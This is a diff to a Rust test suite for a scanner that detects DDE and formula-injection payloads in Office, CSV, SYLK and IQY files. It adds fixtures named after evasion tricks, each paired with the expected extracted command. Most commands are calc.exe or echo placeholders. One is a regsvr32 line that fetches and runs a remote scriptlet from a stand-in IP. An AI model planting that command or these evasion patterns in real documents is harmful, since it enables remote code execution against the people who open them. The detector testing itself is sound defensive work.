@@ -86,6 +86,114 @@ const POSITIVES: &[(&str, &str, &[&str])] = &[
         "ddesweep.document.dde_formula",
         &["cmd /c calc.exe"],
     ),
+    (
+        "evasion-one-run.docx",
+        "ddesweep.document.ddeauto_field",
+        &[r#"c:\windows\system32\cmd.exe "/c calc.exe""#],
+    ),
+    (
+        "evasion-wrappers.docx",
+        "ddesweep.document.ddeauto_field",
+        &[
+            r#"cmd.exe "/c echo customXml""#,
+            r#"cmd.exe "/c echo hyperlink""#,
+            r#"cmd.exe "/c echo ins""#,
+            r#"cmd.exe "/c echo sdt""#,
+            r#"cmd.exe "/c echo smartTag""#,
+            r#"cmd.exe "/c echo spanning""#,
+        ],
+    ),
+    (
+        "evasion-alternate-content.docx",
+        "ddesweep.document.ddeauto_field",
+        &[
+            r#"c:\windows\system32\cmd.exe "/c calc.exe""#,
+            r#"cmd.exe "/c echo fallback""#,
+        ],
+    ),
+    (
+        "evasion-strict.docx",
+        "ddesweep.document.ddeauto_field",
+        &[r#"C:\Windows\System32\cmd.exe "/c powershell -nop -c calc.exe""#],
+    ),
+    (
+        "evasion-unterminated.docx",
+        "ddesweep.document.ddeauto_field",
+        &[r#"c:\windows\system32\cmd.exe "/c echo unterminated""#],
+    ),
+    (
+        "evasion-quote-split.docx",
+        "ddesweep.document.ddeauto_field",
+        &[r#"cmd.exe "/c calc.exe""#],
+    ),
+    (
+        "evasion-mixed-case.docx",
+        "ddesweep.document.ddeauto_field",
+        &[r#"c:\windows\system32\cmd.exe "/c echo mixed""#],
+    ),
+    (
+        "evasion-fullwidth.csv",
+        "ddesweep.document.dde_formula",
+        &["cmd /c calc.exe"],
+    ),
+    (
+        "evasion-leading-quotes.csv",
+        "ddesweep.document.dde_formula",
+        &["cmd /c calc.exe"],
+    ),
+    (
+        "evasion-concat.csv",
+        "ddesweep.document.dde_formula",
+        &["cmd /c calc.exe"],
+    ),
+    (
+        "evasion-msexcel.csv",
+        "ddesweep.document.dde_formula",
+        &[r"\Windows\System32\regsvr32 /s /n /u /i:http://198.51.100.4/a.sct scrobj.dll"],
+    ),
+    (
+        "word2003.xml",
+        "ddesweep.document.ddeauto_field",
+        &[r#"c:\windows\system32\cmd.exe "/k calc.exe""#],
+    ),
+    (
+        "word2003-equation.xml",
+        "ddesweep.document.equation_editor",
+        &[""],
+    ),
+    (
+        "flat-opc.xml",
+        "ddesweep.document.ddeauto_field",
+        &[
+            r#"c:\windows\system32\cmd.exe "/c echo embedded""#,
+            r#"c:\windows\system32\cmd.exe "/c echo flat""#,
+        ],
+    ),
+    (
+        "excel2003.xml",
+        "ddesweep.document.dde_formula",
+        &["cmd /c calc.exe"],
+    ),
+    (
+        "sylk-cmd.slk",
+        "ddesweep.document.dde_formula",
+        &["CMD /C calc.exe"],
+    ),
+    (
+        "webquery.iqy",
+        "ddesweep.document.web_query",
+        &["http://198.51.100.23/dde/2.dat"],
+    ),
+    (
+        "slides.pptx",
+        "ddesweep.document.ddeauto_field",
+        &[r#"c:\windows\system32\cmd.exe "/c echo slides""#],
+    ),
+    (
+        "slides-equation.ppsx",
+        "ddesweep.document.equation_editor",
+        &[""],
+    ),
 ];
 
 #[test]
@@ -173,7 +281,7 @@ fn negative_fixtures_yield_no_findings() {
     assert_eq!(run.code, 0, "{}", run.stderr);
     assert_eq!(run.findings(), Vec::<(String, String, String)>::new());
     assert_eq!(run.rows.len(), 0, "no DDE document, no context rows");
-    assert_eq!(run.manifest["totals"]["seen"], 4);
-    assert_eq!(run.manifest["totals"]["analyzed"], 4);
+    assert_eq!(run.manifest["totals"]["seen"], 10);
+    assert_eq!(run.manifest["totals"]["analyzed"], 10);
     assert_eq!(run.manifest["totals"]["findings"], 0);
 }
